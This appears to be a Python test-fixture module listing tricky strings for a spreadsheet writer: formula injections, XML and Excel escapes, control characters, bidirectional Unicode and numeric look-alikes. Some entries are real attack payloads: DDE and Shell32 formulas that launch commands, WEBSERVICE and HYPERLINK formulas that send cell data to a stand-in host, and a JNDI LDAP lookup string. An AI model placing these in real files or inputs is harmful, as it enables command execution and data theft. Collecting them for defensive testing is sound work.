"""Texts that some program on the way could take for more than text, by what they try.

`XML cannot hold` these only as escapes; `NOWHERE` are characters that no workbook can hold.
"""

from __future__ import annotations

import re

LONGEST = 32_767
"""Characters in one cell."""

TEXTS: dict[str, str] = {
    # Formulas, by every character that begins one in some program
    "equals": "=1+1",
    "plus": "+1+cmd",
    "minus": "-1+cmd",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "space": " =1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+cmd",
    "full-width minus": "－1+cmd",
    "full-width at": "＠SUM(A1)",
    "array formula": "{=1+1}",
    "apostrophe": "'=1+1",
    "quote": '"=1+1',
    "hyperlink": '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "dde": "=cmd|' /C calc'!A0",
    "dde function": '=DDE("cmd";"/C calc";"x")',
    "webservice": '=_xlfn.WEBSERVICE("http://x.invalid/"&A1)',
    "prefix alone": "_xlfn.X",
    "future function": "SORT(FILTER(A1),MINGLE(1))",
    "macro": '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc")',
    # What a drawing library makes links or mark-up of
    "url": "http://x.invalid/",
    "mail": "mailto:a@x.invalid",
    "internal": "internal:汇总!A1",
    "external": "external:c:\\x.xlsx",
    "file": "file:///etc/passwd",
    "share": "\\\\x.invalid\\share\\x",
    "rich run": "<r><t>x</t></r>",
    "rich run with escapes": "<r>_x0041_x0042_\x01</r>",
    "cdata": "<![CDATA[x]]>",
    "end of cdata": "]]>",
    "entity": "&amp;&lt;&#10;&lol;",
    "header codes": '&P&D&"宋体"&K00FF00&G',
    # What breaks out of a sheet's name, a formula's literal, a template's slot
    "apostrophes": "a'!A1+'b''c",
    "illegal in a sheet's name": "x\\/?*[]:y",
    "quotes": 'a"&CHAR(65)&"b',
    "braces": "%s{0}{name}{{x}}${jndi:ldap://x.invalid}",
    "dunder": "__class__",
    # Escapes of Excel's, and what only looks like them
    "escaped return": "_x000D_",
    "escaped letter": "_x0041_",
    "escaped escape": "_x005F_x0041_",
    "escapes in a row": "a_x0041_x0042_x0043_b",
    "no escape": "_X000d_",
    # Control characters and what steers a terminal
    "controls": "a\x01b\x02\x0b\x0c\x1fc",
    "null": "a\x00b",
    "colours": "\x1b[31m红\x1b[0m",
    "title": "\x1b]0;题\x07",
    "hyperlink of a terminal": "\x1b]8;;http://x.invalid\x1b\\点\x1b]8;;\x1b\\",
    "c1 controls": "\x7f\x85\x9b31m",
    "windows line break": "a\r\nb",
    "lone return": "a\rb",
    "backspaces": "100\b\b\b九九九",
    # Unicode that hides or turns text
    "right to left": "\u202e倒着\u202c",
    "isolates": "\u2067右\u2069",
    "zero width": "a\u200b\u200d\ufeffb",
    "line separator": "a\u2028b\u2029c",
    "ideographic spaces": "\u3000全\u3000",
    "beyond the plane": "𠮷😀",
    "combining": "e\u0301" * 40,
    # What a reader takes for another kind of value
    "error": "#REF!",
    "boolean": "TRUE",
    "exponent": "1E400",
    "infinity": "inf",
    "not a number": "nan",
    "hexadecimal": "0x10",
    "too large": "9" * 400,
    "too exact": "0." + "1" * 40,
    "thousands only": ",,,",
    "other digits": "١٢٣x",
    "longest": "=1+" + "九" * (LONGEST - 3),
    "many controls": "甲" + "\x01" * 6000,
    "longest of pairs": "𠮷" * (LONGEST // 2),
}

NOWHERE = {"high surrogate": "a\ud800", "low surrogate": "\udcffb", "no character": "\ufffe"}
"""Characters that cannot be stored: only a sentence helps."""


def as_read(text: str) -> str:
    """The text without what shows nothing, its line breaks of one kind."""
    text = re.sub("\r\n|[\r\v\f\x85]", "\n", text)
    return "".join(c for c in text if c in "\t\n" or not (c < " " or "\x7f" <= c <= "\x9f"))
